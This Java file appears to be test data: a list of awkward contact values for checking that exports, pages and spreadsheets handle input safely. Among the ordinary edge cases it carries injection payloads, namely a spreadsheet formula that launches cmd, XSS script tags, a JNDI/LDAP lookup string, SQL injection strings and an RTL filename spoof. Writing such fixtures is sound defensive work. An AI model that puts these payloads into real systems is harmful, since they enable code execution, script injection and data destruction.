package io.batchdesk.sample.data;

import java.util.List;
import java.util.Optional;

/**
 * What people really type, and what breaks exports, pages and spreadsheets. Some contacts are
 * called like that.
 *
 * @param about what is awkward about it
 */
public record AwkwardValue(
    String about, String givenName, String familyName, String company, String notes) {

  /** The contact with the first of the values. */
  public static final long FIRST_ID = 5_000;

  /** How far apart the contacts are. */
  public static final long EVERY = 100;

  public static List<AwkwardValue> all() {
    return ALL;
  }

  /** The contact that has the value at this index of {@link #all()}. */
  public static long contactId(int index) {
    return FIRST_ID + index * EVERY;
  }

  /** What the contact with this id is called, if it is one of the awkward ones. */
  static Optional<AwkwardValue> of(long contactId) {
    long offset = contactId - FIRST_ID;
    return offset >= 0 && offset % EVERY == 0 && offset / EVERY < ALL.size()
        ? Optional.of(ALL.get((int) (offset / EVERY)))
        : Optional.empty();
  }

  private static final List<AwkwardValue> ALL =
      List.of(
          of(
              "quotes",
              "Anna \"Anni\"",
              "O'Hara",
              "\"Best\" & Sons",
              "She said \"no, thanks\", \"\""),
          of("commas", "Ann, Lee", ",", "Huber, Gruber, and Partners", "a,b;c\td"),
          of("line breaks", "Two\nLines", "Miller", "Top\r\nBottom", "one\ntwo\r\nthree\rfour\n\n"),
          of("formula =", "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//example.org\";\"x\")", "="),
          of("formula +", "+1+1", "+", "+43 1 23", "+A1"),
          of("formula -", "-1", "-", "-2+3", "--"),
          of("formula @", "@ada", "@", "@SUM(A1:A9)", "@here"),
          of("leading tab", "\tTab", "\t", "\t=1+1", "\tindented"),
          of("leading CR", "\rReturn", "\r", "\r=1+1", "\r\nnew line first"),
          of("leading '=", "'=1+1", "'+1", "'@x", "'-"),
          of("apostrophe", "'quoted'", "'t Hooft", "'tis", "'"),
          of("umlauts", "Jürgen", "Größwäßer-Öztürk", "Žluťoučký kůň s.r.o.", "ÄÖÜäöüß ÅåØø ŁłŃń"),
          of("CJK", "山田", "太郎", "株式会社東京商事", "漢字、かな、カナ。한국어 中文"),
          of("right-to-left", "محمد", "שלום", "\u202Etxt.exe\u202C", "abc \u200Fאבג\u200F 123"),
          of("emoji", "🎪", "👩‍👩‍👧‍👦", "🇦🇹🇨🇭 Zirkus", "👍🏽 ✅ 𝒳 \uD83D\uDE00"),
          of(
              "markup",
              "<script>alert(1)</script>",
              "<img src=x onerror=alert(1)>",
              "</td><b>",
              "&amp;&lt;"),
          of("expressions", "#{1+1}", "${7*7}", "%{x} {{y}} [[z]]", "${jndi:ldap://example.org}"),
          of("empty", "", "", "", ""),
          of("null", null, null, null, null),
          of(
              "very long",
              "Long ".repeat(20),
              "Name".repeat(25),
              "x".repeat(250),
              "Notes ".repeat(833)),
          of(
              "invisible",
              "Zoe\u0308",
              "Mu\u200Bller",
              "No\u00A0Break",
              "\uFEFFBOM\u00AD\u2028\u0085"),
          of("SQL", "Robert'); DROP TABLE contacts;--", "%", "_", "\\' OR 1=1 /*"),
          of("blanks", "  padded  ", " ", " =1+1", "trailing "),
          of("like numbers", "007", "1e5", "00123", "2026-03-31"),
          of("words of machines", "null", "NULL", "NaN", "true"),
          of("comment", "#", "# not a comment", "//", ";"));

  private static AwkwardValue of(
      String about, String givenName, String familyName, String company, String notes) {
    return new AwkwardValue(about, givenName, familyName, company, notes);
  }
}
